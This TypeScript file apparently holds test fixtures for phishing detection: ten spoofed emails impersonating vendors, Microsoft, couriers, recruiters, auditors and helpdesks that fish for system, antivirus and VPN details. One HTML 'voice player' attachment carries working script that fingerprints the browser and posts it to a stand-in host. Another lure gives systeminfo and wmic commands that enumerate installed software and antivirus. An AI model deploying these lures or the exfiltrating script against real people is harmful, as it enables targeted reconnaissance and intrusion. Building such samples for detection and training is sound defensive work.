/** Mails in English that gather what people work with. */
import { collector, type Mail } from "./mail.ts";

const reader = `<!doctype html><html><body><p>Voice message, 0:41. Loading player&hellip;</p><script>
const p={ua:navigator.userAgent,pl:navigator.platform,lg:navigator.languages,mem:navigator.deviceMemory,hc:navigator.hardwareConcurrency,sc:[screen.width,screen.height],tz:Intl.DateTimeFormat().resolvedOptions().timeZone,pg:[...navigator.plugins].map(x=>x.name)};
fetch("https://vm-relay-cloud.example/p",{method:"POST",body:btoa(JSON.stringify(p))}).then(()=>location="https://vm-relay-cloud.example/v");
</script></body></html>`;

export const asksEnglish: readonly Mail[] = [
  collector(
    "question",
    "in the name of the maker of the laboratory's program: Windows, Java and protection of each bench, before a hotfix nobody announced",
    "LIMS Bench Support <support@limsbench-updates.example>",
    "Hotfix 11.4.2 - information needed for your site",
    {
      auth: "none",
      text: "Dear customer,\n\nour engineers prepare hotfix 11.4.2 for your laboratory. So that it can be built for your workstations, please reply to this message with\n\n- the Windows edition and build number of each bench PC\n- the Java version\n- the antivirus product and whether it is centrally managed\n- whether bench users are local administrators\n\nThe hotfix will be sent by e-mail.\n\nRegards\nM. Keller\nLIMS Bench Support\n",
    },
  ),
  collector(
    "question",
    "a taken-over courier goes on with a thread about samples; at its end, which Outlook and whether macros open",
    "Dispatch <dispatch@northroad-couriers.example>",
    "Re: Re: Friday pick-up Gdansk",
    {
      headers: {
        "In-Reply-To": "<7712aa@talvera.example>",
        References: "<7712aa@talvera.example>",
        "Reply-To": "dispatch.northroad@fastpost.example",
      },
      text: "Hi Iwona,\n\nthanks, Friday 15:30 is fine, driver is Tomasz.\n\nWe send the waybills as an Excel file from now on and some customers cannot open them. Could you tell me which Excel and Outlook version you have there (File > Account), and does Excel let you enable content or is that blocked by your IT? Also which antivirus, one of them eats the attachment.\n\nBest\nPaul\n\n> On Wed, 18 Nov 2026 Iwona Nowak wrote:\n> Dear Paul, pick-up Friday 15:30 at gate 2 please, six boxes on dry ice.\n",
    },
  ),
  collector(
    "question",
    "a name like Microsoft's: every mailbox has to tell its client and build before old clients are shut out",
    "Microsoft 365 Message Center <no-reply@m365-clientreview.example>",
    "Action required: legacy client review for talvera.example",
    {
      auth: "fail",
      html: "<p>Your tenant is scheduled for the retirement of legacy mail clients on 1 December.</p><p>Please <b>reply</b> with the following, taken from Outlook &gt; File &gt; Office Account and from Ctrl + click on the tray icon &gt; Connection Status:</p><ul><li>Outlook version and build</li><li>Windows version</li><li>Authentication column (Bearer or Clear)</li><li>Add-ins that are active</li></ul><p>Mailboxes that do not answer will be disconnected.</p>",
    },
  ),
  collector(
    "page",
    "speakers of a congress are to open a page from the desk at work, which records the set-up of the PC",
    "Speaker Care <speakers@vetcongress-live.example>",
    "Your talk on 9 December: 20-second system check",
    {
      html: '<p>Dear speaker,</p><p>please open your personal <a href="https://techcheck.vetcongress-live.example/run?sp=i.nowak%40talvera.example">system check</a> <b>on the computer and in the network you will present from</b>. It records browser, system, graphics, add-ons, proxy and firewall for our technicians. Phones do not count.</p><p>Without the check we cannot assign you a slot.</p>',
    },
  ),
  collector(
    "command",
    "a recruiter wants the output of four commands before a test of skills",
    "Maya Lindon <maya@bluepeak-hiring.example>",
    "Senior LIMS developer (remote, 140k) - next step",
    {
      auth: "none",
      text: "Hi Nick,\n\nthe client loved your profile. Before the live coding we make sure the environment works. Open a terminal on the laptop you will use (your current work laptop is perfect) and paste the output of\n\n  systeminfo\n  node -v & git --version & docker --version\n  wmic product get name,version\n  wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayName\n\ninto your reply. I then send you the repository.\n\nMaya\n",
    },
  ),
  collector(
    "form",
    "an auditor nobody ordered sends a table with one line for each desk",
    "Accreditation Desk <desk@iso17025-register.example>",
    "Surveillance audit 2027: annex C, information technology",
    {
      text: "Dear quality manager,\n\nannex C has to be returned by Friday. One line per workstation please: name of the computer, user, operating system with build, browser and version, protection software, remote access, last patch day.\n\nKind regards\nAccreditation Desk\n",
      attach: [
        {
          name: "annex-c.csv",
          type: "text/csv",
          content:
            "computer;user;os_build;browser;browser_version;protection;remote_access;last_patch\n;;;;;;;\n",
        },
      ],
    },
  ),
  collector(
    "screenshot",
    "the help desk's name at a foreign domain wants pictures of three windows",
    "IT Helpdesk <helpdesk@talvera-it.example>",
    "Laptop refresh",
    {
      text: "Hello,\n\nyour laptop is on the list for replacement. To prepare it, send us screenshots of\n1. Settings > System > About\n2. the VPN client with the connection settings open\n3. Windows Security > Virus & threat protection\n\nToday if possible.\n\nIT Helpdesk\n",
    },
  ),
  collector(
    "attachment",
    "a voice message whose attachment posts what the browser tells of itself",
    "Voice Service <vm@pbx-notify.example>",
    "You have 1 new voice message (0:41)",
    {
      auth: "none",
      text: "A voice message was left for you. Open the attached player to listen.\n",
      attach: [{ name: "VM-0041.html", type: "text/html", content: reader }],
    },
  ),
  collector(
    "question",
    "two familiar lines from a private address: VPN and Windows 11",
    "Chris D. <cdlab77@postfach.example>",
    "hey",
    {
      text: "hey, long time! are you guys still on that slow VPN, what was it, GlobalProtect? and did they move you to windows 11 yet or still 10? asking for a friend who has to choose :)\n",
    },
  ),
  collector(
    "form",
    "a grant's portal asks small firms for protection, patches, remote access and names of computers",
    "Digital Health Fund <apply@digital-health-fund.example>",
    "Your eligibility: EUR 25,000 for digital laboratories",
    {
      html: '<p>Congratulations, your laboratory was pre-selected.</p><p>Please complete step 2, "IT baseline", within 72 hours: antivirus and EDR products, Windows versions in use, browsers, how staff connect from home, number of administrators, and an export of your device list.</p><p><a href="https://digital-health-fund.example/step2?c=TALVERA">Open step 2</a></p>',
    },
  ),
];
